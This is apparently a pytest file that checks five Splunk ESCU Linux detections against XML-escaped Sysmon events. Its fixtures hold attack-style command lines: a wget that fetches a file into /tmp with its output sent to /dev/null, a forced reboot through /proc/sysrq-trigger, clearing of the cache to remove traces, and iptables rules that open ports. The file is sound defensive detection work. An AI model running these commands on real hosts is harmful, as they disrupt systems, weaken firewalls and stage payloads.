"""ESCU searches that spell XML escapes fire on what Sysmon writes for a real ``>`` / ``&>``.

Splunk's add-on extracts Sysmon for Linux field values with regex transforms, so a command
``echo 3 > /proc/sys/vm/drop_caches`` is the field value ``echo 3 &gt; /proc/sys/vm/drop_caches``;
five ESCU detections are written against that (docs/semantics.md, "Field values keep the XML
escapes"). Each search below is the detection's ``search`` from splunk/security_content
(``detections/endpoint/<file>.yml``), with the filter macro left to escudo's default. Each fires on
the command as Sysmon writes it, carried bare, in syslog and in journald JSON, and stays silent on
a command holding the text ``&gt;`` itself (which Sysmon writes ``&amp;gt;``).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import pytest
from sysmon_events import event_xml, syslog_line

from escudo.content.loader import load_content
from escudo.detect.hunt import search

_BY = (
    "by Processes.dest Processes.user Processes.parent_process_name Processes.process_name "
    "Processes.process Processes.process_id Processes.parent_process_id Processes.process_guid "
    "| `drop_dm_object_name(Processes)` | `security_content_ctime(firstTime)`"
)
_TSTATS = (
    "| tstats `security_content_summariesonly` count min(_time) as firstTime max(_time) as "
    "lastTime from datamodel=Endpoint.Processes where "
)


@dataclass(frozen=True)
class Case:
    search: str
    commands: tuple[str, ...]  # as typed: Sysmon escapes them when it writes the event
    image: str = "/usr/bin/bash"
    parent_image: str = "/usr/bin/sudo"


CASES = {
    # linux_indicator_removal_clear_cache.yml: an IN list of " echo N &gt; " patterns
    "Linux Indicator Removal Clear Cache": Case(
        _TSTATS + 'Processes.process_name IN ("dash", "sudo", "bash")  AND Processes.process  '
        'IN("* echo 3 &gt; *", "* echo 2 &gt; *","* echo 1 &gt; *") AND Processes.process = '
        '"*/proc/sys/vm/drop_caches" ' + _BY,
        ("bash -c echo 3 > /proc/sys/vm/drop_caches",),
    ),
    # linux_system_reboot_via_system_request_key.yml: one " echo b &gt; " pattern
    "Linux System Reboot Via System Request Key": Case(
        _TSTATS + 'Processes.process_name IN ("dash", "sudo", "bash")  Processes.process =  '
        '"* echo b &gt; *" Processes.process = "*/proc/sysrq-trigger" ' + _BY,
        ("bash -c echo b > /proc/sysrq-trigger",),
    ),
    # linux_unix_shell_enable_all_sysrq_functions.yml
    "Linux Unix Shell Enable All SysRq Functions": Case(
        _TSTATS + 'Processes.process_name IN ("dash", "sudo", "bash")  Processes.process =  '
        '"* echo 1 &gt; *" Processes.process = "*/proc/sys/kernel/sysrq" ' + _BY,
        ("bash -c echo 1 > /proc/sys/kernel/sysrq",),
    ),
    # linux_stdout_redirection_to_dev_null_file.yml: "&amp;&gt;" (bash's &>) in one pattern
    "Linux Stdout Redirection To Dev Null File": Case(
        _TSTATS + 'Processes.process = "*&amp;&gt;/dev/null*" by Processes.process_name '
        "Processes.process Processes.process_id Processes.parent_process_id "
        "Processes.process_guid Processes.dest Processes.user Processes.parent_process_name "
        "| `drop_dm_object_name(Processes)` | `security_content_ctime(firstTime)` "
        "| `security_content_ctime(lastTime)`",
        ("bash -c wget -q http://203.0.113.7/a -O /tmp/a &>/dev/null",),
    ),
    # linux_iptables_firewall_modification.yml: "&amp;&gt;" among five patterns, then rex, stats
    # and a count of distinct ports (three needed)
    "Linux Iptables Firewall Modification": Case(
        _TSTATS + 'Processes.process = "*iptables *" AND Processes.process = "* --dport *" AND '
        'Processes.process = "* ACCEPT*" AND Processes.process = "*&amp;&gt;/dev/null*" AND '
        'Processes.process = "* tcp *" AND NOT(Processes.parent_process_path IN("/bin/*", '
        '"/lib/*", "/usr/bin/*", "/sbin/*")) by Processes.process_name Processes.process '
        "Processes.process_id Processes.parent_process_id Processes.process_guid Processes.dest "
        "_time span=10s Processes.user Processes.parent_process_name "
        "Processes.parent_process_path Processes.process_path "
        '| rex field=Processes.process "--dport (?<port>3269|636|989|994|995|8443)" '
        "| stats values(Processes.process) as processes_exec values(port) as ports "
        "values(Processes.process_guid) as guids values(Processes.process_id) as pids "
        "dc(port) as port_count count by Processes.process_name Processes.parent_process_name "
        "Processes.parent_process_id Processes.dest Processes.user "
        "Processes.parent_process_path Processes.process_path | where port_count >=3 "
        "| `drop_dm_object_name(Processes)` | `security_content_ctime(firstTime)` "
        "| `security_content_ctime(lastTime)`",
        tuple(
            f"sh -c iptables -I INPUT -p tcp --dport {port} -j ACCEPT &>/dev/null"
            for port in (636, 989, 8443)
        ),
        image="/usr/bin/dash",
        parent_image="/tmp/.x/update",
    ),
}

FILLER = 300  # benign events around the one searched for: the prefilter's chunk scan sorts them


def _events(case: Case, commands: tuple[str, ...]) -> list[str]:
    events = [
        event_xml(
            {
                "CommandLine": command,
                "Image": case.image,
                "ParentImage": case.parent_image,
                "ProcessId": str(4000 + i),
                "ProcessGuid": f"{{6f1c2a9e-cb7c-65ee-3a41-09c2d755{i:04x}}}",
            },
            record=9000 + i,
        )
        for i, command in enumerate(commands)
    ]
    filler = [
        event_xml({"CommandLine": f"ls -la /var/log/{i}", "Image": "/usr/bin/ls"}, record=i)
        for i in range(FILLER)
    ]
    return filler[: FILLER // 2] + events + filler[FILLER // 2 :]


SHAPES = {
    "bare": lambda xml: xml,
    "syslog": syslog_line,
    "journald": lambda xml: json.dumps({"MESSAGE": xml, "_HOSTNAME": "web-01"}),
}


def _run(tmp_path: Path, name: str, lines: list[str]) -> list[dict[str, object]]:
    path = tmp_path / "sysmon.log"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return search(CASES[name].search, [path], content=load_content()).records()


@pytest.mark.parametrize("shape", sorted(SHAPES))
@pytest.mark.parametrize("name", sorted(CASES))
def test_fires_on_a_real_redirection(tmp_path: Path, name: str, shape: str) -> None:
    case = CASES[name]
    lines = [SHAPES[shape](xml) for xml in _events(case, case.commands)]
    assert any("&gt;" in line for line in lines)  # Sysmon wrote the ">" escaped
    rows = _run(tmp_path, name, lines)
    assert len(rows) == 1
    process = rows[0].get("process", rows[0].get("processes_exec"))
    written = [c.replace("&", "&amp;").replace(">", "&gt;") for c in case.commands]
    assert process == (written[0] if len(written) == 1 else sorted(written))


@pytest.mark.parametrize("name", sorted(CASES))
def test_silent_on_text_that_holds_the_escape_itself(tmp_path: Path, name: str) -> None:
    # "echo 3 &gt; ..." typed as such (in a here-document, a grep for it): Sysmon writes
    # "echo 3 &amp;gt; ...", so the value holds "&amp;gt;", not the "&gt;" of a redirection.
    case = CASES[name]
    literal = tuple(c.replace("&>", "&amp;&gt;").replace(">", "&gt;") for c in case.commands)
    lines = [syslog_line(xml) for xml in _events(case, literal)]
    assert any("&amp;gt;" in line for line in lines)
    assert _run(tmp_path, name, lines) == []
